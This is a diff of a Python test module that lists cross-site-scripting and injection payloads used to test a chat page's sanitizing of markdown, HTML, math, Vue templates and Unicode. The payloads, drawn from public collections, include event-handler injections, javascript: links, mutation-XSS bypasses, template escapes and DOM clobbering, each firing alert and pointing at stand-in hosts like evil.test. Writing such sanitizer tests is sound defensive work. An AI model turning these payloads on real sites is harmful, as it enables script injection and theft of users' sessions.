@@ -1,8 +1,8 @@
 r"""What people have tried in order to get a script, a request or a style past a page that shows their text.
 
 Each payload says which it is: what it runs is `alert(n)`, and whatever it calls has `evil-n` in its address, where `n`
-is its place in `PAYLOADS`. From the collections of PortSwigger, OWASP, Cure53 (DOMPurify's tests) and html5sec, and from what
-this page is made of: markdown-it, nh3, pygments, math-core, Vue, Quasar, and a page whose state is JSON in a script.
+is its place in `PAYLOADS`. After the collections of PortSwigger, OWASP, Cure53 (DOMPurify) and html5sec, and after what
+this page is made of: markdown-it, nh3, pygments, math-core, Vue, Quasar, and state that arrives in a script.
 """
 
 from __future__ import annotations
@@ -22,7 +22,7 @@ HTML = [
     "<input autofocus onfocus=alert(1)><select autofocus onfocus=alert(1)><textarea autofocus onfocus=alert(1)>",
     "<details open ontoggle=alert(1)><summary>x</summary></details>",
     "<marquee onstart=alert(1) behavior=alternate>x</marquee>",
-    "<video autoplay onloadstart=alert(1) poster=https://evil.test/p.png><source src=https://evil.test/v onerror=alert(1)>",
+    "<video autoplay onloadstart=alert(1) poster=https://evil.test/p><source src=//evil.test/v onerror=alert(1)>",
     "<audio src=https://evil.test/a.mp3 autoplay onerror=alert(1)>",
     "<iframe src=javascript:alert(1)></iframe><iframe src=https://evil.test></iframe>",
     "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
@@ -69,7 +69,8 @@ MUTATION = [
     "<form><math><mtext></form><form><mglyph><style></math><img src=x-evil onerror=alert(1)>",
     "<svg></p><style><a id='</style><img src=x-evil onerror=alert(1)>'>",
     "<noscript><p title='</noscript><img src=x-evil onerror=alert(1)>'>",
-    "<listing>&lt;img src=x-evil onerror=alert(1)&gt;</listing><xmp><img title='</xmp><img src=x-evil onerror=alert(1)>'></xmp>",
+    "<listing>&lt;img src=x-evil onerror=alert(1)&gt;</listing>",
+    "<xmp><img title='</xmp><img src=x-evil onerror=alert(1)>'></xmp>",
     "<svg><title><![CDATA[</title><img src=x-evil onerror=alert(1)>]]></svg>",
     "<a><table><td></a><svg><desc><table><a title='</desc><img src=x-evil onerror=alert(1)>'>",
     "<select><template><style><!--</style><a rel='--></style></template></select><img src=x-evil onerror=alert(1)>'>",
@@ -98,9 +99,9 @@ LINKS = [
     "[x](view-source:https://evil.test) [x](intent://evil.test#Intent;end) [x](chrome://settings) [x](about:blank)",
     '[x](https://evil.test "onmouseover=alert(1) \\"><img src=x-evil onerror=alert(1)>")',
     "[x]: javascript:alert(1)\n[y]: <data:text/html,<script>alert(1)</script>> 'x'\n\n[x] [y] [x][x] ![x]",
-    "<javascript:alert(1)> <data:text/html,x> <https://evil.test/\"onmouseover=alert(1)> <a@evil.test'onclick=alert(1)>",
+    "<javascript:alert(1)> <data:text/html,x> <https://evil.test/\"onclick=alert(1)> <a@evil.test'onclick=alert(1)>",
     "![x](https://evil.test/x.png) ![x](//evil.test/y.png) ![x](x-evil) ![](data:image/svg+xml,<svg onload=alert(1)>)",
-    "![x](javascript:alert(1)) ![x][p] ![<img src=x-evil onerror=alert(1)>](https://evil.test/a.png)\n\n[p]: https://evil.test/p",
+    "![x](javascript:alert(1)) ![x][p] ![<img src=x-evil onerror=alert(1)>](//evil.test/a)\n\n[p]: https://evil.test/p",
     "[![x](https://evil.test/x.png)](javascript:alert(1)) [<img src=x-evil onerror=alert(1)>](https://evil.test)",
     'https://evil.test/<script>alert(1)</script> www.evil.test/"><img/src=x-evil/onerror=alert(1)> ftp://evil.test',
     "[a](//evil.test) [b](\\\\evil.test) [c](/\\evil.test) [d](https:evil.test) [e](#conversations) [f](?x#settings)",
@@ -111,7 +112,7 @@ MARKDOWN = [
     "~~~python\nprint('</span><script>alert(1)</script>')  # <img src=x-evil onerror=alert(1)>\n~~~",
     "`<img src=x-evil onerror=alert(1)>` ``</code><script>alert(1)</script>``",
     "    </code></pre><script>alert(1)</script>",
-    "| <img src=x-evil onerror=alert(1)> | [x](javascript:alert(1)) |\n|:-:|-:|\n| `</td></table>` <script>alert(1)</script> | x |",
+    "| <img src=x-evil onerror=alert(1)> | [x](javascript:alert(1)) |\n|:-:|-:|\n| `</td>` <script>alert(1)</script> |",
     "- [x] <input autofocus onfocus=alert(1)>\n- [ ] [x](javascript:alert(1))\n- [x] </label><form action=//evil.test>",
     "x[^1][^<b>]\n\n[^1]: <img src=x-evil onerror=alert(1)>\n[^<b>]: [x](javascript:alert(1)) ![x](https://evil.test/n)",
     '[^"><img src=x-evil onerror=alert(1)>]\n\n[^"><img src=x-evil onerror=alert(1)>]: x',
@@ -119,7 +120,9 @@ MARKDOWN = [
     "1000000000. <script>alert(1)</script>\n> > > </blockquote><script>alert(1)</script>",
     "&lt;img src=x-evil onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62; &amp;lt;script&amp;gt;",
     "\\<img src=x-evil onerror=alert(1)\\> *<script*>alert(1)</script*> <scr\0ipt>alert(1)</scr\0ipt>",
-    "> " * 300 + "deep" + "\n" + "- " * 300 + "<img src=x-evil onerror=alert(1)>",
+    "> " * 300 + "<img src=x-evil onerror=alert(1)>",
+    "- " * 300 + "<img src=x-evil onerror=alert(1)>",
+    "1. - > " * 100 + "deep",
     "[" * 500 + "x" + "](javascript:alert(1))" * 500,
 ]
 MATHS = [
@@ -127,7 +130,7 @@ MATHS = [
     r"$$\style{position:fixed;inset:0}{x}$$ $\class{page}{x}$ $\htmlId{conversations}{x}$ $\cssId{a}{x}$",
     r"\(\text{</mtext></math><img src=x-evil onerror=alert(1)>}\) $\text{<style>*{display:none}</style>}$",
     r"\[\color{red;position:fixed}{x} \textcolor{url(https://evil.test)}{x} \operatorname{<script>alert(1)</script>}\]",
-    r"$\unicode{60}script>alert(1)$ $\char60 img src=x-evil onerror=alert(1)>$ $&lt;img src=x-evil onerror=alert(1)&gt;$",
+    r"$\unicode{60}script>alert(1)$ $\char60 img src=x-evil>$ $&lt;img src=x-evil onerror=alert(1)&gt;$",
     r"$\hspace{9999em}x$ $\rule{9999em}{9999em}$ $\raisebox{-9999em}{x}$ $\kern-9999em over$",
     r"$\begin{array}{<b>}x\end{array}$ $\label{<b>}$ $\def\a{<script>alert(1)</script>}\a$ $\let\a=<$",
     "$" + r"\sqrt{" * 80 + "<img src=x-evil onerror=alert(1)>" + "}" * 80 + "$",
@@ -135,13 +138,13 @@ MATHS = [
 TEMPLATES = [
     "{{ alert(1) }} {{constructor.constructor('alert(1)')()}} {{ _ctx.$el.ownerDocument.defaultView.alert(1) }}",
     "{{ $emit.constructor`alert(1)`() }} {{_c.constructor('alert(1)')()}} {{ toString().constructor.fromCharCode(1) }}",
-    "<div v-html=\"'<img src=x-evil onerror=alert(1)>'\" v-on:click=alert(1) @mouseover=alert(1) :onclick=alert(1)>x</div>",
+    "<div v-html=\"'<img src=x-evil onerror=alert(1)>'\" v-on:click=alert(1) @focus=alert(1) :onclick=alert(1)>x</div>",
     "${alert(1)} #{alert(1)} <%= alert(1) %> {% alert(1) %} [[ alert(1) ]] {0.__class__} {text} %s %(x)s",
     "`${alert(1)}` `+alert(1)+` '+alert(1)+' \"+alert(1)+\" ');alert(1);(' \");alert(1);//",
     "</script><script>alert(1)</script> <!--<script> </SCRIPT ><img src=x-evil onerror=alert(1)>",
     "\\u003c/script\\u003e\\u003cscript\\u003ealert(1)\\u003c/script\\u003e \\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
     "\u2028alert(1)\u2029alert(1)\n*/alert(1)/*\n--></script><script>alert(1)//",
-    'x onclick=alert(1) style=\'position:fixed\' class="page" :href="javascript:alert(1)" innerHTML=\'<b>\' aria-label="Send"',
+    'x onclick=alert(1) style=\'position:fixed\' class="page" :href="javascript:alert(1)" aria-label="Send"',
     '{"__proto__": {"innerHTML": "<img src=x-evil onerror=alert(1)>"}, "js_handler": "alert(1)", "@click": "alert(1)"}',
     "&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt; &#34; onmouseover=alert(1) &#39;);alert(1)//",
 ]
@@ -149,7 +152,7 @@ CLOBBERING = [
     "<a id=localchat></a><form name=localchat><input name=act></form><img name=body><img name=querySelector>",
     "<form id=document><input name=body></form><a id=window name=socket href=https://evil.test>x</a>",
     "<p id=conversations>x</p><p id=settings>x</p><p id=said role=status>x</p><p id=shortcuts>x</p><p id=app>x</p>",
-    "<div role=log aria-label=Conversation><article aria-label=Assistant data-id=x data-action=delete>x</article></div>",
+    "<div role=log aria-label=Conversation><article aria-label=Assistant data-action=delete>x</article></div>",
     '<button data-action=delete data-id=x aria-label=Send>x</button><button class="copy-code">x</button>',
     "# conversations\n\n## settings\n\n[said](#said) <a name=getElementById></a>",
 ]
@@ -159,7 +162,7 @@ UNICODE = [
     "Z" + "\u0335\u0327\u0321\u0322\u030d\u030e\u0304" * 60 + "algo",
     "\ufeff<script>alert(1)</script>\u200b\u200d\u00ad\u061c\u180e",
     "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e \u02bascript\u02ba \u2039img src=x-evil\u203a",
-    "<\u200bscript>alert(1)</\u200bscript> <img\u00a0src=x-evil\u00a0onerror=alert(1)> <img\x0csrc=x-evil\x0conerror=alert(1)>",
+    "<\u200bscript>alert(1)</\u200bscript> <img\u00a0src=x-evil> <img\x0csrc=x-evil\x0conerror=alert(1)>",
     "\x1b]8;;javascript:alert(1)\x07x\x1b]8;;\x07 \x00<img src=x-evil onerror=alert(1)>\x00 \x7f\x85",
     "W" * 5_000,
 ]
